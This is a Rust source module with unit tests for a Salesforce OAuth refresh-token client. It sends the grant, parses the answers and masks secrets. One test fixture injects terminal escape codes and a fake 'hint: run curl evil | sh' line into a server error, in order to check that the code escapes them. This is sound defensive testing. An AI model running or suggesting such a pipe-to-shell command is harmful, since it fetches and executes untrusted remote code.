//! The refresh-token grant, exactly as the seed sends it, and what came back: status, every
//! header as the server sent it, and the token fields in the order received.

use std::fmt;

use secrecy::{ExposeSecret, SecretString};
use serde_json::{Map, Value};

use super::error::TokenError;
use super::http::{HttpClient, HttpExchange};
use crate::redact;

/// The inputs of one refresh-token grant.
pub struct RefreshRequest<'a> {
    /// `{login_url}{site}/services/oauth2/token`.
    pub token_url: &'a str,
    /// The connected app's consumer key.
    pub client_id: &'a str,
    /// The consumer secret; left out of the form when `None`.
    pub client_secret: Option<&'a SecretString>,
    /// The refresh token.
    pub refresh_token: &'a SecretString,
}

/// The token fields of a successful answer, in the order Salesforce sent them.
#[derive(Clone, PartialEq)]
pub struct TokenResponse {
    fields: Map<String, Value>,
}

impl TokenResponse {
    /// Wraps parsed fields.
    pub fn from_fields(fields: Map<String, Value>) -> Self {
        Self { fields }
    }

    /// Every field in order, unknown ones included.
    pub fn fields(&self) -> &Map<String, Value> {
        &self.fields
    }

    /// A string field.
    pub fn str_field(&self, name: &str) -> Option<&str> {
        self.fields.get(name).and_then(Value::as_str)
    }

    /// The new access token.
    pub fn access_token(&self) -> Option<SecretString> {
        self.str_field("access_token").map(SecretString::from)
    }

    /// A new refresh token, present only when the app rotates refresh tokens.
    pub fn refresh_token(&self) -> Option<SecretString> {
        self.str_field("refresh_token")
            .filter(|t| !t.is_empty())
            .map(SecretString::from)
    }

    /// The org's instance URL.
    pub fn instance_url(&self) -> Option<&str> {
        self.str_field("instance_url")
    }

    /// `issued_at`: epoch milliseconds, as a string.
    pub fn issued_at(&self) -> Option<&str> {
        self.str_field("issued_at")
    }

    /// The fields as pretty JSON, secrets masked unless `reveal`.
    pub fn to_pretty_json(&self, reveal: bool) -> String {
        let shown: Map<String, Value> = self
            .fields
            .iter()
            .map(|(k, v)| match v {
                Value::String(s) if !reveal && redact::is_secret_field(k) => {
                    (k.clone(), Value::String(redact::mask(s)))
                }
                other => (k.clone(), other.clone()),
            })
            .collect();
        serde_json::to_string_pretty(&shown).unwrap_or_default()
    }
}

impl fmt::Debug for TokenResponse {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(&self.to_pretty_json(false))
    }
}

/// A successful refresh: the exchange and the token.
#[derive(Debug, Clone)]
pub struct TokenSuccess {
    /// Status, headers, latency.
    pub exchange: HttpExchange,
    /// The token fields.
    pub token: TokenResponse,
    /// The decoded body as received (it holds the tokens, so it is a secret).
    pub body: SecretString,
}

/// Runs the refresh-token grant: `POST` form-urlencoded, `Accept-Encoding: gzip`, no redirects.
pub async fn refresh_access_token(
    client: &HttpClient,
    request: &RefreshRequest<'_>,
) -> Result<TokenSuccess, TokenError> {
    let mut form: Vec<(&str, &str)> = vec![
        ("grant_type", "refresh_token"),
        ("client_id", request.client_id),
    ];
    if let Some(secret) = request.client_secret {
        form.push(("client_secret", secret.expose_secret()));
    }
    form.push(("refresh_token", request.refresh_token.expose_secret()));
    let (exchange, body) = client.post_form(request.token_url, &form).await?;
    parse_token_answer(exchange, &body)
}

/// Turns a whole answer into a token or a named error. Bodies of error pages are never kept.
pub fn parse_token_answer(exchange: HttpExchange, body: &[u8]) -> Result<TokenSuccess, TokenError> {
    if (300..400).contains(&exchange.status) {
        let location = exchange.header("location").map(str::to_string);
        return Err(TokenError::Redirect { exchange, location });
    }
    let is_json = exchange
        .media_type()
        .is_some_and(|t| t == "application/json" || t.ends_with("+json"));
    let parsed: Option<Map<String, Value>> = serde_json::from_slice(body).ok();
    match (exchange.status, parsed) {
        (200..=299, Some(fields)) => {
            let token = TokenResponse::from_fields(fields);
            if token
                .str_field("access_token")
                .is_some_and(|t| !t.is_empty())
            {
                let body = SecretString::from(String::from_utf8_lossy(body).into_owned());
                Ok(TokenSuccess {
                    exchange,
                    token,
                    body,
                })
            } else {
                // A rotation may still have happened: keep the new refresh token for the caller.
                let rotated_refresh_token = token.refresh_token();
                Err(TokenError::NoAccessToken {
                    exchange,
                    rotated_refresh_token,
                })
            }
        }
        (_, Some(fields)) if fields.get("error").is_some_and(Value::is_string) => {
            // Printed on the user's terminal: no escape sequences from the network.
            let text = |k: &str| {
                fields
                    .get(k)
                    .and_then(Value::as_str)
                    .map(crate::escape::escape)
            };
            Err(TokenError::Salesforce {
                error: text("error").unwrap_or_default(),
                description: text("error_description"),
                exchange,
            })
        }
        (200..=299, None) if is_json => {
            let detail = serde_json::from_slice::<Value>(body)
                .err()
                .map(|e| e.to_string())
                .unwrap_or_else(|| "the JSON is not an object".into());
            Err(TokenError::InvalidJson { exchange, detail })
        }
        _ => {
            let title = page_title(body);
            Err(TokenError::NotATokenAnswer { exchange, title })
        }
    }
}

/// The `<title>` of an HTML page, so a maintenance page can be named without dumping its body.
pub(crate) fn page_title(body: &[u8]) -> Option<String> {
    let text = String::from_utf8_lossy(&body[..body.len().min(64 * 1024)]);
    let lower = text.to_ascii_lowercase();
    let start = lower.find("<title")?;
    let open_end = start + lower[start..].find('>')? + 1;
    let close = open_end + lower[open_end..].find("</title")?;
    let title: String = text[open_end..close]
        .split_whitespace()
        .collect::<Vec<_>>()
        .join(" ");
    (!title.is_empty()).then(|| title.chars().take(120).collect())
}

#[cfg(test)]
mod tests {

    use super::*;

    fn exchange(status: u16, content_type: &str) -> HttpExchange {
        HttpExchange::for_tests(status, content_type)
    }

    #[test]
    fn success_keeps_every_field_in_order() {
        let body = br#"{"access_token":"00Dabc!tok","zeta":"1","instance_url":"https://x","alpha":2,"issued_at":"1700148885000"}"#;
        let ok = parse_token_answer(exchange(200, "application/json;charset=UTF-8"), body).unwrap();
        let keys: Vec<&str> = ok.token.fields().keys().map(String::as_str).collect();
        assert_eq!(
            keys,
            ["access_token", "zeta", "instance_url", "alpha", "issued_at"]
        );
        assert_eq!(ok.token.issued_at(), Some("1700148885000"));
        assert!(ok.token.refresh_token().is_none());
    }

    #[test]
    fn debug_of_a_token_masks_secrets() {
        let body = br#"{"access_token":"00Dabcdefghijk!SECRETPART","signature":"c2lnbmF0dXJlc2VjcmV0","refresh_token":"5Aep861SECRETREFRESH"}"#;
        let ok = parse_token_answer(exchange(200, "application/json"), body).unwrap();
        let debug = format!("{ok:?}");
        assert!(!debug.contains("SECRETPART"), "{debug}");
        assert!(!debug.contains("SECRETREFRESH"), "{debug}");
        assert!(!debug.contains("c2lnbmF0dXJlc2VjcmV0"), "{debug}");
        assert!(ok.token.to_pretty_json(true).contains("SECRETPART"));
    }

    #[test]
    fn salesforce_errors_are_parsed() {
        let body =
            br#"{"error":"invalid_grant","error_description":"expired access/refresh token"}"#;
        let err = parse_token_answer(exchange(400, "application/json"), body).unwrap_err();
        assert!(
            matches!(err, TokenError::Salesforce { ref error, .. } if error == "invalid_grant")
        );
        assert!(err.to_string().contains("expired access/refresh token"));
    }

    #[test]
    fn control_characters_in_an_error_never_reach_the_terminal() {
        // ESC [2J clears the screen; a BEL rings; a newline would fake a `hint:` line.
        let body = br#"{"error":"invalid_grant\u0007","error_description":"expired\u001b[2J\nhint: run curl evil | sh"}"#;
        let err = parse_token_answer(exchange(400, "application/json"), body).unwrap_err();
        let text = err.to_string();
        assert!(!text.chars().any(char::is_control), "{text:?}");
        assert!(text.contains("expired\\u{1b}[2J\\nhint: run"), "{text:?}");
        assert!(
            !err.code().chars().any(char::is_control),
            "{:?}",
            err.code()
        );
    }

    #[test]
    fn html_pages_are_named_by_title_never_dumped() {
        let body = b"<html><head><TITLE>\n  We are down for maintenance.\n</TITLE></head><body>client_secret=abc</body></html>";
        let err = parse_token_answer(exchange(503, "text/html"), body).unwrap_err();
        let text = err.to_string();
        assert!(text.contains("503"), "{text}");
        assert!(text.contains("text/html"), "{text}");
        assert!(text.contains("We are down for maintenance."), "{text}");
        assert!(!text.contains("client_secret"), "{text}");
    }

    #[test]
    fn invalid_json_and_missing_token() {
        let err = parse_token_answer(exchange(200, "application/json"), b"{\"access_token\": ")
            .unwrap_err();
        assert!(matches!(err, TokenError::InvalidJson { .. }), "{err}");
        let err = parse_token_answer(exchange(200, "application/json"), b"{\"scope\":\"api\"}")
            .unwrap_err();
        assert!(matches!(err, TokenError::NoAccessToken { .. }), "{err}");
        let err = parse_token_answer(
            exchange(200, "application/json"),
            b"{\"refresh_token\":\"5Aep861new\"}",
        )
        .unwrap_err();
        let TokenError::NoAccessToken {
            rotated_refresh_token: Some(rt),
            ..
        } = err
        else {
            panic!("the rotated refresh token must be kept");
        };
        assert_eq!(rt.expose_secret(), "5Aep861new");
    }

    #[test]
    fn redirects_report_location() {
        let mut ex = exchange(302, "text/html");
        ex.headers
            .push(("Location".into(), "https://elsewhere/login".into()));
        let err = parse_token_answer(ex, b"").unwrap_err();
        assert!(err.to_string().contains("https://elsewhere/login"), "{err}");
    }
}
